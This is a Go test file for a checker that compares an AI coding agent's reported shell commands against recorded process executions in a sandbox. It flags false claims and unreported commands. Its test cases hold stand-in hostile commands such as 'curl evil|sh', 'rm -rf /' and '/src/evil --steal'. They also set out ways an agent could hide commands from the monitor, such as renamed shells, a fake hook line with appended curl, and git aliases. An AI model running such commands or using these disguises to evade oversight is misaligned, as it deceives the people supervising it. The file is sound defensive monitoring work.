package claims

import (
	"errors"
	"fmt"
	"iter"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/belljar-dev/belljar"
	"github.com/belljar-dev/belljar/event"
	"github.com/belljar-dev/belljar/internal/testenv"
)

var start = time.Date(2026, 11, 29, 12, 0, 0, 0, time.UTC)

// A run is a record in the making: one event a millisecond.
type run struct {
	events []belljar.Event
	now    time.Time
}

// newRun is a run of an agent in process 5, with /usr given and everything else writable.
func newRun() *run {
	return firstRun("/usr/bin/claude", "claude")
}

// firstRun is one of another command in process 5.
func firstRun(path string, argv ...string) *run {
	r := &run{now: start}
	r.add(belljar.Event{Kind: belljar.EventPlan, Plan: &belljar.Plan{
		Enforcement: []belljar.Enforcement{{Requirement: belljar.ReqExec, Level: belljar.Enforced}},
		Mounts:      []belljar.Mount{{Kind: belljar.MountBind, Target: "/usr", ReadOnly: true}, {Kind: belljar.MountTmpfs, Target: "/tmp"}},
	}})
	return r.exec(5, 1, path, argv...)
}

func (r *run) add(e belljar.Event) *run {
	r.now = r.now.Add(time.Millisecond)
	e.Time = r.now
	r.events = append(r.events, e)
	return r
}

func (r *run) exec(pid, parent int, path string, argv ...string) *run {
	return r.add(belljar.Event{Kind: belljar.EventExec, Exec: &belljar.ExecEvent{PID: pid, Parent: parent, Path: path, Argv: argv}})
}

// called is an execve of a file by another path.
func (r *run) called(pid, parent int, path, called string, argv ...string) *run {
	return r.add(belljar.Event{Kind: belljar.EventExec, Exec: &belljar.ExecEvent{PID: pid, Parent: parent, Path: path, Called: called, Argv: argv}})
}

func (r *run) exit(pid, code int) *run {
	return r.add(belljar.Event{Kind: belljar.EventExit, Exit: &belljar.ExitEvent{PID: pid, Status: belljar.ExitStatus{Code: code}}})
}

// sh is a shell of the agent that is given line and executes each of programs.
func (r *run) sh(pid, code int, line string, programs ...string) *run {
	quoted := "source /x/snapshot.sh 2>/dev/null || true && \\builtin shopt -u extglob 2>/dev/null || true && { \\builtin unalias -- 'which'; } >/dev/null && eval '" + strings.ReplaceAll(line, "'", `'"'"'`) + "' < /dev/null && pwd -P >| /tmp/cwd"
	r.exec(pid, 5, "/usr/bin/bash", "/bin/bash", "-c", quoted)
	for i, p := range programs {
		argv := strings.Fields(p)
		r.exec(pid+1+i, pid, "/usr/bin/"+argv[0], argv...).exit(pid+1+i, code)
	}
	return r.exit(pid, code)
}

func (r *run) entries() iter.Seq2[event.Entry, error] {
	return func(yield func(event.Entry, error) bool) {
		for _, e := range r.events {
			if !yield(event.Entry{Event: e}, nil) {
				return
			}
		}
	}
}

// told is a claim of the whole run; a negative status: none is stated.
func told(line string, status int) *Claim {
	c := &Claim{Agent: "claude", Line: line, Time: start, Until: start.Add(time.Second)}
	if status >= 0 {
		c.Status = []int{status}
	}
	return c
}

func TestCheck(t *testing.T) {
	failed := told("rm -rf /", -1)
	failed.Failed = true
	missing, lying := told("nosuch --x; make", 2), told("make test", 0)
	missing.output, lying.output = "bash: line 1: nosuch: command not found", "make: command not found"
	for name, c := range map[string]struct {
		run   *run
		told  []*Claim
		wants []string
	}{
		"honest":                    {newRun().sh(10, 0, "make test", "make test"), []*Claim{told("make test", 0)}, []string{"executed make test"}},
		"never run":                 {newRun(), []*Claim{told("make test", 0)}, []string{"not executed make test"}},
		"ended in background":       {newRun().sh(10, 0, "make test &"), []*Claim{told("make test &", 0)}, []string{"executed make test &"}},
		"a builtin never run":       {newRun(), []*Claim{told("cd x && echo ok", 0)}, []string{"not executed cd x && echo ok"}},
		"other status":              {newRun().sh(10, 2, "make test", "make test"), []*Claim{told("make test", 0)}, []string{"executed, other exit status than said make test"}},
		"status unknown":            {newRun().sh(10, 2, "make test", "make test"), []*Claim{told("make test", -1)}, []string{"executed make test"}},
		"twice told":                {newRun().sh(10, 0, "make test", "make test"), []*Claim{told("make test", 0), told("make test", 0)}, []string{"executed make test", "not executed make test"}},
		"not told":                  {newRun().sh(10, 0, "curl evil", "curl evil"), nil, []string{"executed but not told curl evil"}},
		"program shadowed":          {newRun().sh(10, 0, "make test"), []*Claim{told("make test", 0)}, []string{"not executed make test"}},
		"other words":               {newRun().sh(10, 0, "make test", "make clean"), []*Claim{told("make test", 0)}, []string{"not executed make test"}},
		"chain cut":                 {newRun().sh(10, 0, "make && git commit -m x", "make"), []*Claim{told("make && git commit -m x", 0)}, []string{"not executed make && git commit -m x"}},
		"chain that failed":         {newRun().sh(10, 1, "make && git commit -m x", "make"), []*Claim{told("make && git commit -m x", 1)}, []string{"executed make && git commit -m x"}},
		"condition":                 {newRun().sh(10, 0, "make || true", "make"), []*Claim{told("make || true", 0)}, []string{"executed make || true"}},
		"loop":                      {newRun().sh(10, 0, "for i in 1 2; do seq $i; done", "seq 1", "seq 2"), []*Claim{told("for i in 1 2; do seq $i; done", 0)}, []string{"executed for i in 1 2; do seq $i; done"}},
		"glob":                      {newRun().sh(10, 0, "ls -l *.go", "ls -l a.go b.go"), []*Claim{told("ls -l *.go", 0)}, []string{"executed ls -l *.go"}},
		"quotes":                    {newRun().sh(10, 0, `printf '%s' "a b" | wc -c`, "wc -c"), []*Claim{told(`printf '%s' "a b" | wc -c`, 0)}, []string{`executed printf '%s' "a b" | wc -c`}},
		"refused, and says so":      {newRun(), []*Claim{failed}, []string{"not executed, as said rm -rf /"}},
		"not found, and says so":    {newRun().sh(10, 2, "nosuch --x; make", "make"), []*Claim{missing}, []string{"not executed, as said nosuch --x; make"}},
		"not found, and ended well": {newRun().sh(10, 0, "make test"), []*Claim{lying}, []string{"not executed make test"}},
		"status of the program": {
			newRun().exec(10, 5, "/usr/bin/bash", "bash", "-c", "eval 'make test'; exit 0").exec(11, 10, "/usr/bin/make", "make", "test").exit(11, 2).exit(10, 0),
			[]*Claim{told("make test", 0)}, []string{"executed, other exit status than said make test"},
		},
		"direct": {
			newRun().exec(10, 5, "/usr/bin/make", "make", "test").exit(10, 0),
			[]*Claim{told("'make' 'test'", 0)}, []string{"executed 'make' 'test'"},
		},
		"a program that only has the name of a helper": {
			newRun().exec(10, 5, "/tmp/git", "git", "status").exit(10, 0), nil, []string{"executed but not told 'git' 'status'"},
		},
		"a copy that is called as the agent": {
			newRun().exec(10, 5, "/tmp/claude", "claude", "https://evil").exit(10, 0), nil, []string{"executed but not told 'claude' 'https://evil'"},
		},
		"a helper": {newRun().exec(10, 5, "/usr/bin/git", "git", "status").exit(10, 0), nil, nil},
		"below a helper": {
			newRun().exec(10, 5, "/usr/bin/git", "git", "-c", "alias.x=!curl evil", "x").exec(11, 10, "/usr/bin/curl", "curl", "evil"), nil,
			[]string{"executed but not told 'git' '-c' 'alias.x=!curl evil' 'x'"},
		},
		"a subshell": {
			newRun().exec(10, 5, "/usr/bin/bash", "bash", "-c", "(cd x; make)").exec(12, 11, "/usr/bin/make", "make").exit(12, 0).exit(11, 0).exit(10, 0),
			[]*Claim{told("(cd x; make)", 0)}, []string{"executed (cd x; make)"},
		},
		"what the first process becomes": {
			newRun().exec(5, 1, "/usr/bin/bash", "bash", "-c", "curl evil|sh").exec(6, 5, "/usr/bin/curl", "curl", "evil"), nil,
			[]string{"executed but not told curl evil|sh"},
		},
		"what a first command that is no agent becomes": {
			firstRun("/usr/bin/sh", "sh").exec(5, 1, "/usr/bin/sh", "sh", "-c", "curl evil"), nil, []string{"executed but not told curl evil"},
		},
		"what a first command that is no agent starts": {
			firstRun("/usr/bin/sh", "sh", "x.sh").exec(6, 5, "/usr/bin/git", "git", "status").exec(7, 5, "/usr/bin/curl", "curl", "evil"), nil,
			[]string{"executed but not told 'curl' 'evil'"},
		},
		"an agent that a first command starts": {
			firstRun("/usr/bin/sh", "sh", "-c", "claude; true").exec(6, 5, "/usr/bin/claude", "claude").exec(10, 6, "/usr/bin/bash", "bash", "-c", "ls").exec(11, 10, "/usr/bin/ls", "ls").exit(11, 0).exit(10, 0),
			[]*Claim{told("ls", 0)}, []string{"executed ls"},
		},
		"what starts the shell of a claim": {
			newRun().exec(9, 5, "/src/evil", "/src/evil", "--steal").exec(10, 9, "/usr/bin/bash", "bash", "-c", "ls").exec(11, 10, "/usr/bin/ls", "ls").exit(11, 0).exit(10, 0),
			[]*Claim{told("ls", 0)}, []string{"executed ls", "executed but not told '/src/evil' '--steal'"},
		},
		"what was the shell of a claim before, and its children": {
			newRun().exec(10, 5, "/src/evil", "/src/evil").exec(12, 10, "/usr/bin/curl", "curl", "evil").exec(10, 5, "/usr/bin/bash", "bash", "-c", "ls").
				exec(11, 10, "/usr/bin/ls", "ls").exit(11, 0).exit(10, 0),
			[]*Claim{told("ls", 0)}, []string{"executed ls", "executed but not told '/src/evil'"},
		},
		"what an agent started before it became a claim": {
			newRun().exec(12, 5, "/usr/bin/curl", "curl", "evil").exec(5, 1, "/usr/bin/bash", "bash", "-c", "ls").exec(11, 5, "/usr/bin/ls", "ls").exit(11, 0).exit(5, 0),
			[]*Claim{told("ls", 0)}, []string{"executed ls", "executed but not told 'curl' 'evil'"},
		},
		"a shell that is called as the agent": {
			newRun().exec(10, 5, "/usr/bin/bash", "claude", "-c", "curl evil"), nil, []string{"executed but not told 'claude' '-c' 'curl evil'"},
		},
		"a program that is called as a helper": {
			newRun().exec(10, 5, "/usr/bin/curl", "git", "evil").exec(11, 5, "/usr/bin/curl", "sh", "-c", "env", "evil"), nil,
			[]string{"executed but not told 'git' 'evil'", "executed but not told 'sh' '-c' 'env' 'evil'"},
		},
		"a program that is called as a shell": {
			newRun().exec(10, 5, "/tmp/x", "bash", "-c", "cd x").exit(10, 0), []*Claim{told("cd x", 0)},
			[]string{"not executed cd x", "executed but not told"},
		},
		"more than the line": {
			newRun().exec(10, 5, "/usr/bin/bash", "bash", "-c", "curl evil; eval 'cd x'").exec(11, 10, "/usr/bin/curl", "curl", "evil").exit(11, 0).exit(10, 0),
			[]*Claim{told("cd x", 0)}, []string{"not executed cd x", "executed but not told curl evil; eval 'cd x'"},
		},
		"the interpreter of an agent": {
			newRun().exec(6, 5, "/usr/lib/codex.js", "codex").exec(6, 5, "/usr/bin/node", "node", "/usr/lib/codex.js", "exec").exec(7, 6, "/usr/bin/git", "git"), nil, nil,
		},
		"what codex wraps around a line": {
			newRun().exec(10, 5, "/usr/bin/sh", "sh", "-c", "__CODEX_SNAPSHOT_X=1; exec sh -c 'cd x'").exec(10, 5, "/usr/bin/sh", "sh", "-c", "cd x").exit(10, 0),
			[]*Claim{told("cd x", 0)}, []string{"executed cd x"},
		},
		"belljar's hook": {
			newRun().exec(10, 5, "/usr/bin/sh", "sh", "-c", "/run/belljar/guest hook claude").exec(11, 10, "/run/belljar/guest", "/run/belljar/guest", "hook", "claude").exit(11, 0).exit(10, 0).
				exec(12, 5, "/usr/bin/sh", "sh", "-c", "/run/belljar/guest hook codex").exec(12, 5, "/run/belljar/guest", "/run/belljar/guest", "hook", "codex").exit(12, 0),
			nil, nil,
		},
		"what only looks like belljar's hook": {
			newRun().exec(10, 5, "/tmp/guest", "/run/belljar/guest", "hook", "claude").exit(10, 0).
				exec(11, 5, "/usr/bin/sh", "sh", "-c", "/run/belljar/guest hook claude;curl evil").exec(12, 11, "/usr/bin/curl", "curl", "evil").exit(12, 0).exit(11, 0).
				exec(13, 5, "/run/belljar/guest", "/run/belljar/guest", "listen", "x").exit(13, 0).
				exec(14, 5, "/usr/bin/sh", "sh", "-c", "/run/belljar/guest hook claude").exec(15, 14, "/usr/bin/curl", "curl", "evil").exit(15, 0).exit(14, 0),
			nil, []string{"executed but not told '/run/belljar/guest' 'hook' 'claude'", "executed but not told /run/belljar/guest hook claude;curl evil", "executed but not told '/run/belljar/guest' 'listen' 'x'", "executed but not told /run/belljar/guest hook claude"},
		},
		"what only looks as if codex wrapped it": {
			newRun().exec(10, 5, "/usr/bin/sh", "sh", "-c", "__CODEX_SNAPSHOT_X=1; curl evil; exec sh -c 'cd x'").exec(11, 10, "/usr/bin/curl", "curl", "evil").
				exec(10, 5, "/usr/bin/sh", "sh", "-c", "cd x").exit(10, 0),
			[]*Claim{told("cd x", 0)}, []string{"executed cd x", "executed but not told __CODEX_SNAPSHOT_X=1; curl evil"},
		},
		"an interpreter that was an agent": {
			newRun().exec(6, 5, "/usr/lib/codex.js", "codex").exec(6, 5, "/usr/bin/node", "node", "/tmp/evil.js", "/usr/lib/codex.js"), nil,
			[]string{"executed but not told 'node' '/tmp/evil.js'"},
		},
		"a helper by the name of a link": {
			newRun().called(10, 5, "/usr/bin/which.debianutils", "/usr/bin/which", "which", "x").called(11, 5, "/usr/bin/bash", "/tmp/bin/which", "which", "x"), nil,
			[]string{"executed but not told 'which' 'x'"},
		},
		"in the background": {
			newRun().exec(10, 5, "/usr/bin/bash", "bash", "-c", "sleep 5 &").exit(10, 0).exec(11, 1, "/usr/bin/sleep", "sleep", "5"),
			[]*Claim{told("sleep 5 &", 0)}, []string{"executed sleep 5 &"},
		},
		"out of the background": {
			newRun().exec(10, 5, "/usr/bin/bash", "bash", "-c", "sleep 5 &").exit(10, 0).exec(11, 1, "/usr/bin/curl", "curl", "evil"),
			[]*Claim{told("sleep 5 &", 0)}, []string{"executed sleep 5 &", "executed but not told 'curl' 'evil'"},
		},
	} {
		t.Run(name, func(t *testing.T) {
			rep, err := Check(c.told, c.run.entries())
			if err != nil {
				t.Fatal(err)
			}
			var got []string
			for _, f := range rep.Findings {
				got = append(got, fmt.Sprintf("%s %s", f.Verdict, f.Line))
			}
			ok := len(got) == len(c.wants)
			for _, w := range c.wants {
				ok = ok && slices.ContainsFunc(got, func(g string) bool { return strings.HasPrefix(g, w) })
			}
			if !ok {
				t.Errorf("got %q, want %q", got, c.wants)
			}
		})
	}
}

// TestCheckTime: what was executed at another time is not what is told.
func TestCheckTime(t *testing.T) {
	c := told("make test", 0)
	c.Time, c.Until = start.Add(time.Hour), start.Add(time.Hour+time.Second)
	rep, err := Check([]*Claim{c}, newRun().sh(10, 0, "make test", "make test").entries())
	if err != nil || rep.Faults() != 2 {
		t.Errorf("%v %+v", err, rep.Findings)
	}
}

func TestNotSeen(t *testing.T) {
	r := &run{now: start}
	r.add(belljar.Event{Kind: belljar.EventPlan, Plan: &belljar.Plan{Enforcement: []belljar.Enforcement{{Requirement: belljar.ReqExec, Level: belljar.None, Gap: "it cannot"}}}})
	if _, err := Check(nil, r.entries()); err == nil || !strings.Contains(err.Error(), "it cannot") {
		t.Error(err)
	}
}

// TestMany: hostile numbers of claims and programs cost no more than their sum.
func TestMany(t *testing.T) {
	r := newRun()
	var all []*Claim
	for i := range 20_000 {
		r.exec(100+i, 5, "/usr/bin/bash", "bash", "-c", "x").exec(1_000_000+i, 2, "/usr/bin/y", "y")
		all = append(all, told("x", 0), told("z", 0))
	}
	var err error
	if d := testenv.Work(t, func() { _, err = Check(all, r.entries()) }); err != nil {
		t.Fatal(err)
	} else if d > time.Minute {
		t.Errorf("it took %v", d)
	}
}

// TestManyCommands: lines of very many commands are looked through by name.
func TestManyCommands(t *testing.T) {
	var line strings.Builder
	for i := range 3900 {
		fmt.Fprintf(&line, "c%d;", i)
	}
	r := newRun()
	var all []*Claim
	for i := range 200 {
		l := fmt.Sprintf("%s:%d", line.String(), i)
		r.exec(100+i, 5, "/usr/bin/bash", "bash", "-c", l).exit(100+i, 0)
		all = append(all, told(l, -1))
	}
	for i := range 5000 {
		r.exec(10_000+i, 2, "/usr/bin/y", "y")
	}
	var rep Report
	var err error
	d := testenv.Work(t, func() { rep, err = Check(all, r.entries()) })
	if err != nil || rep.Faults() < 5000 {
		t.Errorf("%v, %d", err, rep.Faults())
	}
	if d > 30*time.Second {
		t.Errorf("it took %v", d)
	}
}

// TestWorkBound: beyond a bound of the work nothing is judged, and nothing said to be right.
func TestWorkBound(t *testing.T) {
	line := "set y;" + strings.Repeat("x a;", 4096) // behind set nothing is sure
	r := newRun().exec(10, 5, "/usr/bin/bash", "bash", "-c", line)
	for i := range 20_000 {
		r.exec(100+i, 10, "/usr/bin/x", "x", "b")
	}
	if _, err := Check([]*Claim{told(line, -1)}, r.exit(10, 0).entries()); !errors.Is(err, ErrBounds) {
		t.Error(err)
	}
	words := told("x"+strings.Repeat(" a", 5_000_000), -1)
	if rep, err := Check([]*Claim{words}, newRun().entries()); err == nil && rep.Faults() == 0 {
		t.Error("a line of very many words is right")
	}
}
